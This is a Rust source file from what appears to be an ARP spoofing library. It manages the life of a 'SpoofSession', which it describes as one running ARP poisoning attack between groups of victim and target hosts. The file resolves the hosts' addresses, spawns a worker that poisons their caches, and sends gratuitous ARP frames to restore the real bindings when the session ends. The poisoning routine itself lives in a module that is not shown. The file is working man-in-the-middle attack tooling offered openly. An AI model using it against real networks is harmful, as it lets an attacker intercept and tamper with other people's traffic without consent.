//! Spoofing session lifecycle
//!
//! A [`SpoofSession`] only exists once its address lists passed
//! [`sanitize`](crate::sanity::sanitize). Creating it spawns the worker;
//! [`SpoofSession::terminate`] stops the worker, waits for it to hand back
//! its packets and then announces every real binding again so the poisoned
//! caches recover.

use crate::binding::{AddressBinding, AddressList};
use crate::config::{SpoofConfig, SpoofMode};
use crate::resolver::AddressResolver;
use crate::sanity::sanitize;
use crate::stats::{SessionStats, StatsSnapshot};
use crate::worker::{OutstandingPackets, SpoofWorker};
use arpspoof_core::{Error, Link, MacAddr, Result};
use arpspoof_packet::{ArpPacket, FrameBuilder};
use std::fmt;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tokio::runtime::Handle;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{debug, error, info, warn};
use uuid::Uuid;

/// Where a session is in its life
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    /// Worker spawned, tables being poisoned
    Running,
    /// Teardown in progress
    Stopping,
    /// Torn down; every further operation fails
    Terminated,
}

impl fmt::Display for SessionState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SessionState::Running => write!(f, "running"),
            SessionState::Stopping => write!(f, "stopping"),
            SessionState::Terminated => write!(f, "terminated"),
        }
    }
}

/// Asks a session's worker to stop before its next frame
///
/// Stopping only ends the poisoning loop, which wakes anybody in
/// [`SpoofSession::block`]. Tables are restored by `terminate`.
#[derive(Debug, Clone)]
pub struct StopHandle {
    tx: Arc<watch::Sender<bool>>,
}

impl StopHandle {
    pub fn stop(&self) {
        self.tx.send_replace(true);
    }

    pub fn is_stopped(&self) -> bool {
        *self.tx.borrow()
    }
}

/// One running ARP poisoning attack between two groups of hosts
pub struct SpoofSession {
    id: Uuid,
    attacker: AddressBinding,
    lists: Option<(Arc<AddressList>, Arc<AddressList>)>,
    mode: SpoofMode,
    link: Arc<dyn Link>,
    stop_tx: Arc<watch::Sender<bool>>,
    worker: Option<JoinHandle<OutstandingPackets>>,
    outstanding: OutstandingPackets,
    stop_timeout: Duration,
    stats: Arc<SessionStats>,
    state: SessionState,
}

impl SpoofSession {
    /// Sanitize the lists and start poisoning
    ///
    /// Must be called from within a tokio runtime. Fails without spawning
    /// anything when the configuration is invalid or a list ends up empty.
    pub fn start(
        link: Arc<dyn Link>,
        attacker: AddressBinding,
        mut victims: AddressList,
        mut targets: AddressList,
        config: &SpoofConfig,
    ) -> Result<Self> {
        config.validate()?;
        sanitize(attacker.mac, &mut victims, &mut targets)?;

        let runtime = Handle::try_current()
            .map_err(|e| Error::thread_control(format!("No async runtime to run the worker on: {}", e)))?;

        let victims = Arc::new(victims);
        let targets = Arc::new(targets);
        let stats = Arc::new(SessionStats::default());
        let (stop_tx, stop_rx) = watch::channel(false);

        let worker = SpoofWorker::new(link.clone(), attacker, victims.clone(), targets.clone())
            .with_mode(config.mode)
            .with_interval(config.interval)
            .with_stats(stats.clone());
        let handle = runtime.spawn(worker.run(stop_rx));

        let session = Self {
            id: Uuid::now_v7(),
            attacker,
            lists: Some((victims, targets)),
            mode: config.mode,
            link,
            stop_tx: Arc::new(stop_tx),
            worker: Some(handle),
            outstanding: OutstandingPackets::new(),
            stop_timeout: config.stop_timeout,
            stats,
            state: SessionState::Running,
        };

        info!(
            id = %session.id,
            interface = %session.link.name(),
            mode = %session.mode,
            "Spoof session started\n{}",
            session
        );

        Ok(session)
    }

    /// Resolve both host groups on `link` and start a session between them
    ///
    /// The attacker identity is the link's own address. Hosts that do not
    /// answer are left out; if a whole side stays silent the matching
    /// [`SanityFailure`](arpspoof_core::SanityFailure) is returned.
    pub async fn launch<V, T>(
        link: Arc<dyn Link>,
        victim_ips: V,
        target_ips: T,
        config: &SpoofConfig,
    ) -> Result<Self>
    where
        V: IntoIterator<Item = Ipv4Addr>,
        T: IntoIterator<Item = Ipv4Addr>,
    {
        config.validate()?;
        let attacker = AddressBinding::new(link.local_ipv4()?, link.local_mac()?);
        info!(interface = %link.name(), attacker = %attacker, "Resolving hosts");

        let resolver = AddressResolver::from_config(link.clone(), config);
        let victims = resolver.resolve_all(victim_ips).await?;
        let targets = resolver.resolve_all(target_ips).await?;

        Self::start(link, attacker, victims, targets, config)
    }

    pub fn id(&self) -> Uuid {
        self.id
    }

    pub fn attacker(&self) -> AddressBinding {
        self.attacker
    }

    pub fn mode(&self) -> SpoofMode {
        self.mode
    }

    pub fn state(&self) -> SessionState {
        self.state
    }

    pub fn stats(&self) -> StatsSnapshot {
        self.stats.snapshot()
    }

    /// Handle for ending the poisoning loop from another task
    pub fn stop_handle(&self) -> Result<StopHandle> {
        self.ensure_open()?;
        Ok(StopHandle {
            tx: self.stop_tx.clone(),
        })
    }

    pub fn victims(&self) -> Result<&AddressList> {
        self.ensure_open()?;
        self.lists.as_ref().map(|(victims, _)| victims.as_ref()).ok_or(Error::SessionClosed)
    }

    pub fn targets(&self) -> Result<&AddressList> {
        self.ensure_open()?;
        self.lists.as_ref().map(|(_, targets)| targets.as_ref()).ok_or(Error::SessionClosed)
    }

    /// Frames retained from the worker's last round, zero while it runs
    pub fn outstanding_len(&self) -> usize {
        self.outstanding.len()
    }

    /// Wait until the worker ends on its own
    ///
    /// The worker only ends when something else stops it, usually a
    /// [`StopHandle`]. Tables are not restored; call
    /// [`terminate`](Self::terminate) afterwards.
    pub async fn block(&mut self) -> Result<()> {
        self.ensure_open()?;

        let Some(handle) = self.worker.as_mut() else {
            return Ok(());
        };

        let joined = handle.await;
        self.worker = None;

        match joined {
            Ok(outstanding) => {
                debug!(id = %self.id, outstanding = outstanding.len(), "Spoof worker finished");
                self.outstanding = outstanding;
                Ok(())
            }
            Err(e) => {
                self.abandon();
                Err(Error::thread_control(format!("Spoof worker failed: {}", e)))
            }
        }
    }

    /// Stop the worker and restore the real bindings
    ///
    /// Corrective traffic is only sent once the worker has acknowledged the
    /// stop by returning its packets. If that does not happen within the
    /// configured stop timeout the worker is aborted, nothing is restored and
    /// [`Error::ThreadControl`] is returned. Either way the session is
    /// unusable afterwards.
    pub async fn terminate(&mut self) -> Result<()> {
        self.ensure_open()?;

        info!(id = %self.id, "Stopping spoof session, restoring ARP tables");
        self.state = SessionState::Stopping;
        self.stop_tx.send_replace(true);

        if let Some(mut handle) = self.worker.take() {
            match tokio::time::timeout(self.stop_timeout, &mut handle).await {
                Ok(Ok(outstanding)) => self.outstanding = outstanding,
                Ok(Err(e)) => {
                    self.abandon();
                    return Err(Error::thread_control(format!("Spoof worker failed: {}", e)));
                }
                Err(_) => {
                    handle.abort();
                    self.abandon();
                    return Err(Error::thread_control(format!(
                        "Spoof worker did not stop within {:?}",
                        self.stop_timeout
                    )));
                }
            }
        }

        let released = self.outstanding.clear();
        debug!(id = %self.id, released, "Released outstanding packets");

        let failed = self.restore().await;
        self.lists = None;
        self.state = SessionState::Terminated;

        info!(id = %self.id, stats = %self.stats.snapshot(), "Spoof session terminated");

        if failed > 0 {
            return Err(Error::protocol(format!(
                "{} corrective packets could not be sent",
                failed
            )));
        }

        Ok(())
    }

    /// Announce every real binding once, returning the number of failed sends
    async fn restore(&self) -> usize {
        let Some((victims, targets)) = self.lists.as_ref() else {
            return 0;
        };

        let mut failed = 0;
        for owner in victims.iter().chain(targets.iter()) {
            let packet = FrameBuilder::new()
                .ethernet(owner.mac, MacAddr::broadcast())
                .arp(ArpPacket::new_gratuitous(self.mode.opcode(), owner.mac, owner.ip))
                .build(self.link.name());

            let sent = match packet {
                Ok(packet) => self.link.send(&packet).await,
                Err(e) => Err(e),
            };

            match sent {
                Ok(()) => {
                    debug!(owner = %owner, "Restored binding");
                    self.stats.increment_corrective();
                }
                Err(e) => {
                    error!(owner = %owner, error = %e, "Failed to send corrective frame");
                    self.stats.increment_errors();
                    failed += 1;
                }
            }
        }

        failed
    }

    /// Give up on the session after losing control of its worker
    fn abandon(&mut self) {
        error!(id = %self.id, "Lost control of spoof worker, ARP tables were not restored");
        self.outstanding.clear();
        self.lists = None;
        self.state = SessionState::Terminated;
    }

    fn ensure_open(&self) -> Result<()> {
        match self.state {
            SessionState::Terminated => Err(Error::SessionClosed),
            _ => Ok(()),
        }
    }
}

impl fmt::Display for SpoofSession {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "Session {} ({}, {})", self.id, self.mode, self.state)?;
        writeln!(f, "Attacker: {}", self.attacker)?;

        let Some((victims, targets)) = self.lists.as_ref() else {
            return Ok(());
        };

        writeln!(f, "Victim network:")?;
        for victim in victims.iter() {
            writeln!(f, "  {}", victim)?;
        }
        writeln!(f, "Target network:")?;
        for target in targets.iter() {
            writeln!(f, "  {}", target)?;
        }

        Ok(())
    }
}

impl Drop for SpoofSession {
    fn drop(&mut self) {
        if let Some(handle) = self.worker.take() {
            self.stop_tx.send_replace(true);
            handle.abort();
        }

        if self.state != SessionState::Terminated {
            warn!(id = %self.id, "Spoof session dropped without terminate, ARP tables were not restored");
        }
    }
}
